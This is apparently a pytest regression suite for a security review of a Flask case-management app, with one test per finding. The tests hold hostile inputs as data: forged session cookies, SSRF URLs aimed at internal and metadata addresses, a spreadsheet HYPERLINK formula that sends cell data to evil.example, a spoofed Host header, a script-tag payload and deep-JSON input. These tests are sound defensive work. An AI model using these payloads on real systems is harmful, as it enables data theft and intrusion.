"""The security review of 2026-12-04: one regression test per finding, named after it, each
replaying the review's reproduction against the app (real PostGIS, real HTTP receivers on
loopback). Findings 7 (slow clients) and 8 (tamper evidence) have their own modules."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import timedelta

import pyotp
import pytest
import sqlalchemy as sa
from flask import Flask
from flask.sessions import SecureCookieSessionInterface

from gridcase.audit.models import AuditEntry
from gridcase.cases.models import CaseParty
from gridcase.channels.clients import create_client
from gridcase.extensions import db
from gridcase.people import signin, two_factor
from gridcase.people.models import User
from gridcase.settings import cipher, utcnow
from gridcase.webhooks.delivery import deliver_due
from gridcase.webhooks.models import WebhookDelivery
from tests.helpers import CITY, FENGQIAO, OTHER_CITY, add_other_city, case_payload, grid_in

# The development key config.py published until this review.
PUBLISHED_SECRET_KEY = "dev-only-secret-key-change-me"
PASSWORD = "correct-horse-battery"


def csrf_token(client, path: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).get_data(as_text=True)).group(1)


def page_sign_in(client, username: str, password: str = PASSWORD):
    return client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": csrf_token(client, "/login")},
    )


def session_cookie(app, values: dict, key: str) -> str:
    signer = Flask("forger")
    signer.secret_key = key
    signer.config.update(app.config)
    return SecureCookieSessionInterface().get_signing_serializer(signer).dumps(values)


def enrolled(user: User) -> str:
    secret = pyotp.random_base32()
    user.totp_secret_encrypted = cipher().encrypt(secret, "totp")
    user.totp_confirmed_at = utcnow()
    db.session.flush()
    return secret


def test_finding_1_a_forged_session_cookie_signs_nobody_in(app, client, make_user):
    commander = make_user("city_commander", CITY)
    forged = {"user_id": commander.id, "seen": int(time.time()), "credentials": 9e12}
    for key in (PUBLISHED_SECRET_KEY, app.config["SECRET_KEY"]):  # even with the real key
        client.set_cookie(app.config["SESSION_COOKIE_NAME"], session_cookie(app, forged, key))
        answer = client.get("/dashboard/")
        assert answer.status_code == 302 and answer.headers["Location"].startswith("/login")
        assert client.get("/api/v1/cases/1").status_code == 401


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8499/fail",
        "http://127.0.0.1:54411/",
        "http://169.254.169.254/latest/meta-data/",
        "http://2130706433:8499/",
        "http://[::1]:8499/",
        "http://user:pw@127.0.0.1/",
        "http://10.1.2.3/hook",
        "http://localhost:8411/healthz",
    ],
)
def test_finding_2_a_webhook_cannot_point_inside_the_network(app, api_as, make_user, monkeypatch, url):
    monkeypatch.setitem(app.config, "GRIDCASE_WEBHOOK_ALLOWED_NETWORKS", [])
    admin = api_as(make_user("admin", CITY))
    answer = admin.post(
        "/api/v1/webhooks", json={"name": "内网", "url": url, "event_types": ["case.created"]}
    )
    assert answer.status_code == 422 and "url" in answer.json["errors"]


def test_finding_2_a_delivery_checks_the_host_again_and_never_logs_an_answers_body(
    app, api_as, make_user, worker, receiver, monkeypatch
):
    hook = receiver(script={"/fail": [500]})
    admin = api_as(make_user("admin", CITY))
    made = admin.post(
        "/api/v1/webhooks", json={"name": "fails", "url": f"{hook.url}/fail", "event_types": ["case.created"]}
    )
    assert made.status_code == 201  # loopback is allowed in the tests' configuration
    worker_api = api_as(worker)
    worker_api.post("/api/v1/cases", json=case_payload(grid_in(FENGQIAO).code))
    deliver_due(now=utcnow())
    assert [r.path for r in hook.received] == ["/fail"]
    assert _last_errors() == ["HTTP 500 Internal Server Error"]  # the status; never "receiver says no"

    # The allowance is withdrawn: each attempt resolves the host again and refuses it.
    monkeypatch.setitem(app.config, "GRIDCASE_WEBHOOK_ALLOWED_NETWORKS", [])
    worker_api.post("/api/v1/cases", json=case_payload(grid_in(FENGQIAO).code))
    deliver_due(now=utcnow() + timedelta(hours=2))
    assert [r.path for r in hook.received] == ["/fail"]  # nothing more reached it
    assert all(error.startswith("Destination refused") for error in _last_errors())


def _last_errors() -> list[str]:
    return list(db.session.scalars(sa.select(WebhookDelivery.last_error).order_by(WebhookDelivery.id)))


def test_finding_3_an_auditor_reads_only_their_own_citys_log(app, api_as, make_user):
    add_other_city()
    admin = api_as(make_user("admin", CITY))
    assert (
        admin.post(
            "/api/v1/users",
            json={"username": "city-one-worker", "role": "grid_worker", "scope": grid_in(FENGQIAO).code},
        ).status_code
        == 201
    )
    ours, theirs = api_as(make_user("auditor", CITY)), api_as(make_user("auditor", OTHER_CITY))

    def listed(auditor) -> list[str]:
        return [
            e["target"] for e in auditor.get("/api/v1/audit?action=user_created&page_size=500").json["items"]
        ]

    assert "city-one-worker" in listed(ours)
    assert "city-one-worker" not in listed(theirs)
    exported = theirs.get("/api/v1/audit/export?action=user_created").get_data(as_text=True)
    assert "city-one-worker" not in exported


def test_finding_3_a_form_refused_for_its_csrf_token_is_logged_under_the_users_city(app, make_user):
    """The re-run of the review's scripts found these entries without a user or a city, so an
    auditor of any city read them."""
    from tests.integration.test_attachments_and_pages import sign_in

    worker = make_user("grid_worker", grid_in(FENGQIAO).code)
    browser = app.test_client()
    assert sign_in(browser, worker.username).status_code == 302
    assert browser.post("/account", data={"current_password": "x"}).status_code == 400
    entry = db.session.scalars(
        sa.select(AuditEntry)
        .where(AuditEntry.action == "permission_denied", AuditEntry.actor_id == worker.id)
        .order_by(AuditEntry.id.desc())
    ).first()
    assert entry is not None and entry.city_code == CITY and "CSRF" in entry.details["reason"]


def test_finding_4_the_audit_export_writes_a_typed_formula_as_text(client, api_as, make_user):
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
    client.post("/api/v1/auth/token", json={"username": formula, "password": "x"})
    export = api_as(make_user("auditor", CITY)).get("/api/v1/audit/export?action=login_failed")
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff"))))
    users = [row[1] for row in rows[1:]]
    assert "'" + formula in users and formula not in users


def test_finding_5_wrong_second_factor_codes_lock_the_account(client, make_user, app):
    commander = make_user("city_commander", CITY)
    enrolled(commander)
    credentials = {"username": commander.username, "password": PASSWORD, "otp": "000000"}
    answers = [client.post("/api/v1/auth/token", json=credentials).status_code for _ in range(7)]
    limit = app.config["GRIDCASE_LOGIN_MAX_FAILURES"]
    assert answers[:limit] == [401] * limit and answers[limit:] == [423, 423]
    db.session.refresh(commander)
    assert commander.locked_until is not None and commander.locked_until > utcnow()


def test_finding_6_signing_out_ends_the_session_wherever_its_cookie_went(app, worker):
    browser = app.test_client()
    page_sign_in(browser, worker.username)
    copy = browser.get_cookie(app.config["SESSION_COOKIE_NAME"]).value
    assert browser.get("/m/").status_code == 200
    browser.post("/logout", data={"csrf_token": csrf_token(browser, "/m/")})
    thief = app.test_client()
    thief.set_cookie(app.config["SESSION_COOKIE_NAME"], copy)
    assert thief.get("/m/").status_code == 302
    assert thief.get("/api/v1/cases?page_size=1").status_code == 401


def test_a_disable_ends_every_session_even_once_enabled_again(app, api_as, make_user, worker):
    browser = app.test_client()
    page_sign_in(browser, worker.username)
    admin = api_as(make_user("admin", CITY))
    assert admin.patch(f"/api/v1/users/{worker.id}", json={"active": False}).status_code == 200
    assert admin.patch(f"/api/v1/users/{worker.id}", json={"active": True}).status_code == 200
    assert browser.get("/m/").status_code == 302  # enabled again, but that session is over


def test_finding_9_a_role_change_revokes_tokens_and_admins_do_not_promote_admins(api_as, make_user):
    w2 = make_user("grid_worker", grid_in(FENGQIAO).code)
    old_token = api_as(w2)
    assert old_token.get("/api/v1/cases").status_code == 200
    admin, other_admin = make_user("admin", CITY), make_user("admin", CITY)
    admin_api = api_as(admin)
    promoted = admin_api.patch(f"/api/v1/users/{w2.id}", json={"role": "city_commander", "scope": CITY})
    assert promoted.status_code == 200
    assert old_token.get("/api/v1/cases").status_code == 401  # sign in again, with two factors
    escalation = admin_api.patch(
        f"/api/v1/users/{other_admin.id}", json={"role": "city_commander", "scope": CITY}
    )
    assert escalation.status_code == 403
    db.session.refresh(other_admin)
    assert other_admin.role == "admin"


def test_finding_10_unknown_usernames_answer_like_real_ones(app, client, make_user, monkeypatch):
    monkeypatch.setitem(app.config, "GRIDCASE_PASSWORD_METHOD", "pbkdf2:sha256:5000")
    real = make_user("grid_worker", grid_in(FENGQIAO).code)
    # The same hashing work for an unknown name as for a real one.
    assert signin._dummy_hash().split("$")[0] == real.password_hash.split("$")[0] == "pbkdf2:sha256:5000"
    limit = app.config["GRIDCASE_LOGIN_MAX_FAILURES"]
    for username in (real.username, "nobody-by-this-name"):
        body = {"username": username, "password": "wrong-password-1"}
        answers = [client.post("/api/v1/auth/token", json=body) for _ in range(limit + 2)]
        assert [a.status_code for a in answers] == [401] * limit + [423, 423], username
        assert answers[-1].json["message"].startswith("The account is locked")


def test_finding_11_odd_digits_big_numbers_and_deep_json_are_4xx_not_500(
    app, client, api_as, worker, make_user
):
    worker_api = api_as(worker)
    assert worker_api.get("/api/v1/cases/%C2%B2").status_code == 404
    party = {"name": "张三", "id_number": "²" * 17 + "X", "role": "applicant"}
    dispute = case_payload(grid_in(FENGQIAO).code, kind="dispute", category="D02", parties=[party])
    made = worker_api.post("/api/v1/cases", json=dispute)  # ² is 2 once normalised (NFKC)
    assert made.status_code == 201
    party = db.session.scalars(sa.select(CaseParty).where(CaseParty.case_id == made.json["id"])).one()
    assert party.id_number_hash == cipher().lookup_hash("2" * 17 + "X")
    commander = make_user("city_commander", CITY)
    enrolled(commander)
    otp = {"username": commander.username, "password": PASSWORD, "otp": "²²²²²²"}
    assert client.post("/api/v1/auth/token", json=otp).status_code == 401
    deep = "[" * 100_000
    for path in ("/api/v1/auth/token", "/api/v1/cases"):
        answer = client.post(path, data=deep, headers={"Content-Type": "application/json"})
        assert answer.status_code == 400, path
    township = app.test_client()
    page_sign_in(township, make_user("township_coordinator", FENGQIAO).username)
    for page in ("%C2%B2", "99999999999999999999999"):
        assert township.get(f"/desk/?page={page}").status_code == 200


def test_finding_11_open311_attributes_in_other_scripts_digits_are_400(app, client):
    _, key = create_client("11号测试平台")
    form = {
        "api_key": key,
        "service_code": "E0102",
        "lat": "29.646",
        "long": "120.395",
        "attribute[people_involved]": "²",
    }
    for fmt in ("json", "xml"):
        assert client.post(f"/open311/v2/requests.{fmt}", data=form).status_code == 400


def test_finding_12_a_stats_period_is_at_most_ten_years_and_its_series_bounded(api_as, worker):
    worker_api = api_as(worker)
    grid = grid_in(FENGQIAO).code
    assert worker_api.get(f"/api/v1/stats?region={grid}&from=1900-01-01&to=2999-12-31").status_code == 422
    open_ended = worker_api.get(f"/api/v1/stats?region={grid}&from=1900-01-01")
    assert open_ended.status_code == 200 and len(open_ended.json["series"]) <= 522


def test_finding_13_webhooks_carry_no_case_content(api_as, make_user, worker, receiver):
    hook = receiver()
    admin = api_as(make_user("admin", CITY))
    admin.post(
        "/api/v1/webhooks", json={"name": "content?", "url": f"{hook.url}/x", "event_types": ["case.created"]}
    )
    case = (
        api_as(worker)
        .post("/api/v1/cases", json=case_payload(grid_in(FENGQIAO).code, title="<script>alert('T1')"))
        .json
    )
    deliver_due(now=utcnow())
    (got,) = hook.received
    assert got.json()["case"]["public_number"] == case["public_number"]
    for content in ("title", "category", "location", "description", "kind", "severity", "parties"):
        assert content not in got.json()["case"], content
    assert "alert(" not in got.body.decode()


def test_finding_13_an_open311_system_user_never_signs_in_with_a_password(client, api_as, make_user):
    system_client, _ = create_client("13号测试平台")
    admin = api_as(make_user("admin", CITY))
    reset = admin.post(f"/api/v1/users/{system_client.user_id}/reset-password")
    assert reset.status_code == 422 and "never signs in with a password" in reset.json["message"]
    # Even a password set behind the app's back does not sign it in.
    from gridcase.people.auth import hash_password

    system_client.user.password_hash = hash_password("a-known-password-13")
    answer = client.post(
        "/api/v1/auth/token",
        json={"username": system_client.user.username, "password": "a-known-password-13"},
    )
    assert answer.status_code == 401


def test_finding_14_id_numbers_in_other_scripts_digits_are_refused_and_full_width_ones_normalised(
    api_as, worker
):
    worker_api = api_as(worker)

    def dispute(id_number):
        party = {"name": "张三", "id_number": id_number}
        return case_payload(grid_in(FENGQIAO).code, kind="dispute", category="D02", parties=[party])

    assert worker_api.post("/api/v1/cases", json=dispute("١١٠١٠٥٩٠٠١٠١٠١٢")).status_code == 422
    made = worker_api.post("/api/v1/cases", json=dispute("１１０１０５９００１０１０１２"))
    assert made.status_code == 201
    party = db.session.scalars(sa.select(CaseParty).where(CaseParty.case_id == made.json["id"])).one()
    assert party.id_number_hash == cipher().lookup_hash("110105900101012")


def test_finding_15_the_authenticator_secret_never_travels_in_the_cookie(app, make_user):
    admin = make_user("admin", CITY)  # two factors required, none set up yet
    browser = app.test_client()
    page_sign_in(browser, admin.username)
    page = browser.get("/login/second-factor").get_data(as_text=True)
    secret = re.search(r'<p class="center mono small">([A-Z2-7]+)</p>', page).group(1)
    cookie = browser.get_cookie(app.config["SESSION_COOKIE_NAME"]).value
    stored = app.session_interface.get_signing_serializer(app).loads(cookie)
    assert secret not in repr(stored) and "enrol_secret" not in stored
    db.session.refresh(admin)
    assert two_factor.enrolment_secret(admin) == secret  # kept on the server, encrypted


def test_finding_16_an_open311_api_key_in_the_query_string_is_not_taken(app, client):
    _, key = create_client("16号测试平台")
    form = {"service_code": "E0102", "lat": "29.646", "long": "120.395", "description": "桥头垃圾"}
    in_query = client.post(f"/open311/v2/requests.json?api_key={key}", data=form)
    assert in_query.status_code == 403
    in_header = client.post("/open311/v2/requests.json", data=form, headers={"X-Api-Key": key})
    assert in_header.status_code == 201


def test_finding_17_recovery_codes_carry_80_bits_and_are_kept_salted_and_slow(app, make_user):
    admin = make_user("admin", CITY)
    secret = pyotp.random_base32()
    codes = two_factor.confirm_enrolment(admin, secret, pyotp.TOTP(secret).now(), utcnow())
    assert len(codes) == 10 and len(set(codes)) == 10
    for code, stored in zip(codes, admin.recovery_code_hashes, strict=True):
        plain = code.replace("-", "")
        assert len(plain) == 20 and set(plain) <= set(two_factor.RECOVERY_ALPHABET)  # 100 bits
        selector, digest = stored.split("|", 1)
        assert selector == plain[:4] and digest.startswith(app.config["GRIDCASE_PASSWORD_METHOD"] + "$")
        assert plain not in stored


@pytest.mark.parametrize("username", ["DEMO-WORKER", "demo-wоrker", "demo-worker\u200b", "网格员王小明"])
def test_finding_18_look_alike_usernames_are_refused(api_as, make_user, username):
    admin = api_as(make_user("admin", CITY))
    body = {
        "username": username,
        "display_name": "网格员 王小明",
        "role": "grid_worker",
        "scope": grid_in(FENGQIAO).code,
    }
    answer = admin.post("/api/v1/users", json=body)
    assert answer.status_code == 422 and "username" in answer.json["errors"]


def test_finding_19_open311_discovery_does_not_echo_the_host_header(client):
    discovery = client.get("/open311/v2/discovery.json", headers={"Host": "evil.example"}).json
    assert "evil.example" not in discovery["endpoints"][0]["url"]


def test_finding_22_photos_are_never_kept_in_a_browser_cache(api_as, worker):
    from tests.integration.test_attachments_and_pages import jpeg

    worker_api = api_as(worker)
    case = worker_api.post("/api/v1/cases", json=case_payload(grid_in(FENGQIAO).code)).json
    photo = worker_api.client.post(
        f"/api/v1/cases/{case['id']}/attachments",
        data={"file": (io.BytesIO(jpeg()), "p.jpg")},
        headers={"Authorization": f"Bearer {worker_api.token}"},
        content_type="multipart/form-data",
    ).json
    for url in (photo["url"], photo["thumbnail_url"]):
        assert worker_api.get(url).headers["Cache-Control"] == "no-store"


def test_every_sign_in_failure_names_its_city_in_the_audit_log_when_the_user_is_known(client, make_user):
    user = make_user("grid_worker", grid_in(FENGQIAO).code)
    client.post("/api/v1/auth/token", json={"username": user.username, "password": "nope-nope-1"})
    client.post("/api/v1/auth/token", json={"username": "nobody-at-all", "password": "nope-nope-1"})
    cities = dict(
        db.session.execute(
            sa.select(AuditEntry.actor_username, AuditEntry.city_code).where(
                AuditEntry.action == "login_failed"
            )
        ).all()
    )
    assert cities[user.username] == CITY and cities["nobody-at-all"] is None


def test_finding_20_outside_development_the_cookie_is_secure_and_hsts_is_sent(client):
    """Development serves plain HTTP to the developer's own machine and phones on the same
    network, so it alone sends neither; testing (here) and production both do."""
    import config

    page = client.get("/login")
    assert page.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    cookie = page.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert config.ProductionConfig.SESSION_COOKIE_SECURE and config.TestingConfig.SESSION_COOKIE_SECURE
